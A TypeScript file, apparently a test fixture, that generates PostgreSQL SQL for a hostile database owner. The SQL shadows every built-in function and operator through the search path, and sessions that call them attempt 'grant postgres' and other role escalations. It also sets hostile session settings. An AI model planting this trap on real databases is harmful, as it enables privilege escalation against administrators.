/**
 * Objects that a database's owner can plant so that another user's session runs them: a function and an operator for
 * each of PostgreSQL's own, in a schema that comes first in the search path. Each records the user it ran as, and tries
 * to escalate its owner's privileges.
 */
export const plantCode = (owner: string): string => `
  create table public.traces (current_role_ text, session_role_ text, won text);
  grant insert, select on public.traces to public;
  create function public.trace() returns void language plpgsql as $trace$
    declare attempt text;
    begin
      insert into public.traces values (current_user, session_user);
      foreach attempt in array array['reset role', 'set role none', 'set session authorization default'] loop
        begin execute attempt; insert into public.traces values (current_user, session_user, null); exception when others then null; end;
        begin execute 'alter role "${owner}" createrole createdb bypassrls replication'; insert into public.traces values (current_user, session_user, attempt);
        exception when others then null; end;
        begin execute 'grant postgres to "${owner}"'; insert into public.traces values (current_user, session_user, attempt);
        exception when others then null; end;
      end loop;
    end $trace$;
  do $plant$
  declare f record; o record; n int := 0;
  begin
    for f in select p.oid, p.proname, pg_get_function_identity_arguments(p.oid) as args, format_type(p.prorettype, null) as ret
      from pg_proc p where pronamespace = 'pg_catalog'::regnamespace and prokind = 'f' and not proretset and provariadic = 0
    loop
      begin
        execute format('create function public.%I(%s) returns %s language plpgsql as $f$ begin perform public.trace(); return null; end $f$', f.proname, f.args, f.ret);
        n := n + 1;
      exception when others then null; end;
    end loop;
    for o in select oprname, format_type(oprleft, null) as l, format_type(oprright, null) as r, p.proname
      from pg_operator join pg_proc p on p.oid = oprcode where oprnamespace = 'pg_catalog'::regnamespace and oprleft <> 0
    loop
      begin
        execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.%I)', o.oprname, o.l, o.r, o.proname);
        n := n + 1;
      exception when others then null; end;
    end loop;
    if n < 1000 then raise exception 'only % planted', n; end if;
  end $plant$`;

/** Settings that a database's owner may set for every session in it. */
export const plantedSettings = (owner: string, version: number): Record<string, string> => ({
  search_path: "public, pg_catalog",
  role: owner,
  default_transaction_read_only: "on",
  default_transaction_isolation: "serializable",
  default_transaction_deferrable: "on",
  statement_timeout: "1",
  lock_timeout: "1",
  idle_in_transaction_session_timeout: "1",
  idle_session_timeout: "1",
  exit_on_error: "on",
  row_security: "off",
  quote_all_identifiers: "on",
  standard_conforming_strings: "off",
  escape_string_warning: "on",
  client_min_messages: "error",
  array_nulls: "off",
  transform_null_equals: "on",
  DateStyle: "SQL, DMY",
  TimeZone: "Asia/Kathmandu",
  IntervalStyle: "iso_8601",
  bytea_output: "escape",
  check_function_bodies: "off",
  work_mem: "64kB",
  extra_float_digits: "-15",
  max_parallel_workers_per_gather: "0",
  ...(version >= 16 ? { createrole_self_grant: "set, inherit" } : {}),
  ...(version >= 17 ? { transaction_timeout: "1", restrict_nonsystem_relation_kind: "view, foreign-table" } : {}),
});
